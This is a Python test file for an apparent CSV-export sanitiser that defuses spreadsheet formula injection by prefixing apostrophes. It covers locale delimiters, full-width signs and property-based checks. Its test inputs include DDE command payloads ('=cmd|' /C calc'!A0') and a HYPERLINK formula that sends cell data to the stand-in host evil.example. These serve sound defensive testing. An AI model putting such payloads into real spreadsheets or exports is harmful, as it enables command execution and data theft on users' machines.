"""CSV cells: text stays text, whatever a spreadsheet would make of it."""

import re
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from settings_ui.domain.access import Role
from settings_ui.domain.spreadsheet import inert


@pytest.mark.parametrize(
    "attack",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://evil.example?"&A1,"Pay")',
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
    ],
    ids=ascii,
)
def test_a_formula_stays_text(attack: str) -> None:
    assert inert(attack) == f"'{attack}"


@pytest.mark.parametrize(
    ("attack", "cell"),
    [
        ("Ads;=cmd|' /C calc'!A0", "Ads;'=cmd|' /C calc'!A0"),
        ('Ads;"=cmd()"', 'Ads;\'"=cmd()"'),
        ("Ads;;@SUM(1)", "Ads;;'@SUM(1)"),
        ("Ads\t-1", "Ads\t'-1"),
        ("Ads\n=1;+1", "Ads\n'=1;'+1"),
        ("\t=1+1", "'\t'=1+1"),
        ("\r=1+1", "'\r'=1+1"),
        ("\n=1+1", "'\n'=1+1"),
        ("=1;＝1", "'=1;'＝1"),
    ],
    ids=ascii,
)
def test_nor_does_one_begin_where_another_spreadsheet_begins_a_cell(attack: str, cell: str) -> None:
    """In many locales the delimiter is a semicolon, and our quotes are then part of the text."""
    assert inert(attack) == cell


@pytest.mark.parametrize(
    "harmless", ["Dana", "O'Hara", "1 = 1", "a-b", " =1", "'=1", "dana@example.com", "", "٣", "a; b", "a;b", "a; -b"]
)
def test_other_text_is_left_alone(harmless: str) -> None:
    assert inert(harmless) == harmless


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (True, "yes"),
        (False, "no"),
        (None, ""),
        (0, "0"),
        (-5, "-5"),
        (-1.5, "-1.5"),
        (Decimal("-0.0340"), "-0.0340"),
        (Role.OWNER, "owner"),
        (datetime(2026, 3, 4, 12, 0, tzinfo=UTC), "2026-03-04T12:00:00+00:00"),
    ],
    ids=repr,
)
def test_numbers_times_and_yes_or_no_are_cells_as_they_are(value: object, cell: str) -> None:
    """A negative amount is not a formula: sums over the column still work."""
    assert inert(value) == cell


@given(st.text(st.characters() | st.sampled_from(';\t\n"=+-@')))
def test_no_text_ever_starts_a_formula(text: str) -> None:
    """And nothing is lost: the original text is still there, at most with apostrophes before it."""
    cell = inert(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))
    assert cell.replace("'", "") == text.replace("'", "")
    assert not re.search('[;\t\r\n]"*[=+@＝＋－＠-]', cell)
